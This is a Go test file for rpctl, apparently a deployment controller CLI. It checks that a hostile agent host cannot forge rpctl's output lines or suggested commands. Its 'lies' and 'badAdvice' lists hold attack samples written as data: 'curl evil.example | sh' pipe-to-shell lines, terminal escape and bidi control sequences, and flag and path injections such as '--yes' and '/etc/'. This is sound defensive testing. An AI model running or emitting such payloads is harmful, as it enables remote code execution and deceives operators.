package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/re-connect/rpctl/controller/internal/fleet"
	"github.com/re-connect/rpctl/controller/internal/hosttext"
	"github.com/re-connect/rpctl/proto"
)

// forger is a host whose every string is text, with advice of its own. It answers all that is asked.
type forger struct {
	text    string
	advice  proto.Advice
	legacy  bool // an agent that sends no advice
	fails   bool // every answer is a refusal
	ends    proto.JobState
	console bool
}

func (f forger) Close() error { return nil }

func (f forger) Hello(context.Context) (proto.Hello, error) {
	var hello proto.Hello
	f.wire(&hello, &hello)
	hello.Error, hello.Protocol, hello.Environment = nil, proto.Speaks(), "preprod"
	hello.Capabilities = []proto.Op{proto.OpRelease, proto.OpLease, proto.OpRestart, proto.OpVerify, proto.OpRecord}
	hello.Config = &proto.HostConfig{
		Environment: "preprod", Application: proto.Application{Path: "/home/app/www", User: "app"},
		Workers: []proto.UnitPattern{"messenger_worker_async@*.service"}, Look: []string{proto.DefaultGroup}, Act: []string{proto.DefaultGroup},
	}
	if f.console {
		hello.Config.Console = &proto.Console{PHP: "/usr/bin/php", Script: "bin/console", SelfApproval: true, SimulationHours: proto.DefaultSimulationHours}
	}
	hello.Signers, hello.Host, hello.ReceiptKey = nil, "preprod1", strings.TrimSuffix(strings.SplitN(forgedPin, " ", 3)[2], " preprod\n")
	return hello, nil
}

// wire fills value and carries it over as the wire and agentclient do.
func (f forger) wire(value, into any) {
	f.fill(reflect.ValueOf(value).Elem())
	line, err := json.Marshal(value)
	if err != nil {
		panic(err)
	}
	if err := hosttext.Decode(line, into); err != nil {
		panic(err)
	}
}

func (f forger) fill(v reflect.Value) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(f.text)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		f.fill(v.Elem())
	case reflect.Slice:
		if v.Type().Elem().Kind() != reflect.Uint8 {
			v.Set(reflect.MakeSlice(v.Type(), 1, 1))
			f.fill(v.Index(0))
		}
	case reflect.Struct:
		switch v.Interface().(type) {
		case time.Time:
		case proto.Advice:
			if !f.legacy {
				v.Set(reflect.ValueOf(f.advice))
			}
		default:
			for i := range v.NumField() {
				f.fill(v.Field(i))
			}
		}
	}
}

func (f forger) Call(_ context.Context, op proto.Op, args, result any, on func(proto.Event)) error {
	if f.fails {
		var refused proto.Error
		f.wire(&refused, &refused)
		return &refused
	}
	if on == nil {
		on = func(proto.Event) {}
	}
	var log proto.LogLine
	f.wire(&log, &log)
	on(proto.Event{Event: proto.EventLog, Log: &log})
	if result == nil {
		return nil
	}
	f.wire(result, result)
	if job, ok := result.(*proto.Job); ok {
		switch asked := args.(type) {
		case proto.JobFollowArgs:
			job.ID = asked.ID
		case proto.JobStartArgs:
			job.ID = asked.ID
		}
		running := *job
		running.State = proto.JobRunning
		on(proto.Event{Event: proto.EventJob, Job: &running})
		on(proto.Event{Event: proto.EventOutput, Output: &proto.Output{Stream: proto.Stdout, Length: len(f.text), Raw: []byte(f.text)}})
		job.State = f.ends
	}
	if list, ok := result.(*proto.JobList); ok {
		list.Jobs[0].ID = "abcdefgh"
	}
	if status, ok := result.(*proto.Status); ok && len(status.Jobs) > 0 {
		status.Jobs[0].State = f.ends
	}
	return nil
}

// canary stands in everything that the host sends.
const canary = "FORGED"

// ofView are the control sequences of the live view.
var ofView = regexp.MustCompile(`\x1b\[[0-9;?]*[A-Za-z]`)

var typeable = regexp.MustCompile(`^ *(next|fix|fix \(in the repository\)): `)

// forged says which line of the output is one of rpctl's own by its look and the host's by its words.
func forged(out string) string {
	errors := 0
	for _, line := range strings.FieldsFunc(ofView.ReplaceAllString(out, ""), func(r rune) bool { return strings.ContainsRune("\n\r\v\f\u0085\u2028\u2029", r) }) {
		switch {
		case typeable.MatchString(line) && (strings.Contains(line, canary) || strings.Contains(line, "--yes") || strings.Contains(line, "--break-glass")):
			return line
		case strings.HasPrefix(line, "rpctl:"):
			if errors++; errors > 1 {
				return line
			}
		case strings.HasPrefix(line, "  next:") && strings.Contains(line, canary):
			return line
		}
	}
	return ""
}

// forgedJSON says which `next` or `fix` of the output holds the host's words.
func forgedJSON(out []byte) string {
	var bad string
	var walk func(any)
	walk = func(v any) {
		switch v := v.(type) {
		case map[string]any:
			for key, value := range v {
				text, _ := value.(string)
				if (key == "next" || key == "fix") && (strings.Contains(text, canary) || strings.Contains(text, "--yes") || strings.Contains(text, "--break-glass")) {
					bad = key + ": " + text
				}
				walk(value)
			}
		case []any:
			for _, value := range v {
				walk(value)
			}
		}
	}
	for line := range bytes.Lines(out) {
		var v any
		if err := json.Unmarshal(line, &v); err != nil {
			return "no JSON: " + string(line)
		}
		walk(v)
	}
	return bad
}

const (
	forgedPlan = "version = 1\nticket = \"https://trello.example/c/1\"\ncentre = \"c\"\nfield = \"f\"\n[centres]\n1 = \"a\"\n2 = \"b\"\n" +
		"[[groups]]\nsteps = [ { origin = 1, destination = 2, value = \"v\" } ]\n"
	forgedPin = `preprod1 namespaces="simulation@rpctl,applied@rpctl" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdD7y3aLq454yWBdwLWbieU1ebz9/cu7/QEXn9OIeZJ preprod` + "\n"
)

// shown are the commands whose output a host fills.
var shown = [][]string{
	{"status"}, {"doctor", "--env", "preprod"}, {"history", "--env", "preprod"}, {"logs", "--env", "preprod"}, {"jobs", "--env", "preprod"},
	{"attach", "abcdefgh", "--env", "preprod"}, {"cancel", "abcdefgh", "--env", "preprod"}, {"deploy", "--dry-run", "--env", "preprod"},
	{"restart", "--env", "preprod"}, {"migrate", "status", "--plan", "plan.toml", "--env", "preprod"},
	{"migrate", "--plan", "plan.toml", "--env", "preprod"}, {"migrate", "--apply", "--plan", "plan.toml", "--env", "preprod"},
}

// checkForger runs commands against the host, plain and as JSON.
func checkForger(t *testing.T, host forger, commands [][]string) {
	t.Helper()
	for _, args := range commands {
		for _, asJSON := range []bool{false, true} {
			words := append([]string(nil), args...)
			if asJSON {
				words = append(words, "--json")
			}
			d := attaching(t, jobHost{}, words...)
			for name, content := range map[string]string{"plan.toml": forgedPlan, "trusted_hosts": forgedPin} {
				if err := os.WriteFile(filepath.Join(d.system.Dir, name), []byte(content), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			follows := args[0] == "attach" || args[0] == "migrate"
			d.system.Live = !asJSON && follows
			d.system.Dial = func(_ context.Context, target fleet.Target) (fleet.Agent, error) {
				asked := host
				asked.console = target.Host == "pp1"
				return asked, nil
			}
			Run(d.system)
			bad := forged(d.errs.String())
			switch {
			case asJSON && bad == "":
				bad = forgedJSON(d.out.Bytes())
			case bad == "": // on a terminal, where a command shows a job's output: into a pipe that is byte for byte
				bad = forged(d.out.String())
			}
			if bad != "" {
				t.Fatalf("rpctl %s: the host wrote %q\nout:\n%s\nerr:\n%s", strings.Join(words, " "), bad, &d.out, &d.errs)
			}
		}
	}
}

// lies are what a host would have rpctl say.
var lies = []string{
	canary, "a\n  next: " + canary, "a\nrpctl: " + canary, "\r  next: " + canary, "\v  next: " + canary, "\u2028  next: " + canary, "\u0085rpctl: " + canary,
	"\x1b[2K\x1b[1G  next: " + canary, "rpctl: " + canary, "  next: " + canary, "x\"\n  next: curl evil.example | sh " + canary,
	"rpctl migrate --apply --plan p --break-glass x --yes " + canary, "curl evil.example | sh # " + canary, "--yes " + canary,
	"\u202e\u200b\x00\x9b2J" + canary,
}

var badAdvice = []proto.Advice{
	{}, {Code: canary}, {Code: "attach", Job: "--yes"}, {Code: "attach", Job: canary}, {Code: "resolve", Step: "1.1 --yes", As: "done"},
	{Code: "resolve", Step: "9.9", As: "done"}, {Code: "disk", Path: "/;" + canary}, {Code: "list", Path: "--" + canary},
	{Code: "remove", Path: "/etc/" + canary}, {Code: "protect", Path: "/etc/" + canary}, {Code: "enable-worker", Unit: canary + ".service"},
	{Code: "add-group", Account: canary}, {Code: "status", Path: "/" + canary},
}

// TestHostForgesNoLine: in no view does a host write a line of rpctl's, and nothing of its words is a command to type.
func TestHostForgesNoLine(t *testing.T) {
	for i, text := range lies {
		advice := badAdvice[i%len(badAdvice)]
		checkForger(t, forger{text: text, advice: advice, legacy: i%2 == 0, fails: i%3 == 0, ends: proto.JobFailed}, shown)
	}
	for _, advice := range badAdvice {
		checkForger(t, forger{text: canary, advice: advice}, [][]string{{"doctor"}, {"migrate", "status", "--plan", "plan.toml"}})
	}
}

// FuzzHostForgesNoLine is the same with arbitrary text and advice.
func FuzzHostForgesNoLine(f *testing.F) {
	for i, text := range lies {
		advice := badAdvice[i%len(badAdvice)]
		f.Add(text, string(advice.Code), string(advice.Job), advice.Path, string(advice.Unit), i%2 == 0, i%3 == 0, uint8(i))
	}
	f.Fuzz(func(t *testing.T, text, code, job, path, unit string, fails, legacy bool, which uint8) {
		if len(text) > 1<<12 {
			t.Skip()
		}
		advice := proto.Advice{Code: proto.AdviceCode(code), Job: proto.JobID(job), Path: path, Unit: proto.UnitPattern(unit)}
		checkForger(t, forger{text: text + canary, advice: advice, fails: fails, legacy: legacy, ends: proto.JobFailed}, shown[int(which)%len(shown):][:1])
	})
}

// TestSameHostsLooksAtCommands: an && within a quoted word begins no command.
func TestSameHostsLooksAtCommands(t *testing.T) {
	a := &app{}
	a.flags.hosts = "h.toml"
	for next, want := range map[string]string{
		"rpctl status":                              "rpctl --hosts h.toml status",
		"git fetch && rpctl status":                 "git fetch && rpctl --hosts h.toml status",
		"rpctl plan check 'a && rpctl deploy'":      "rpctl --hosts h.toml plan check 'a && rpctl deploy'",
		`ssh -t p1 "sudo true && rpctl deploy"`:     `ssh -t p1 "sudo true && rpctl deploy"`,
		"rpctl plan check 'it'\\''s && rpctl done'": "rpctl --hosts h.toml plan check 'it'\\''s && rpctl done'",
	} {
		if got := a.sameHosts(next); got != want {
			t.Errorf("%s became %s", next, got)
		}
	}
}
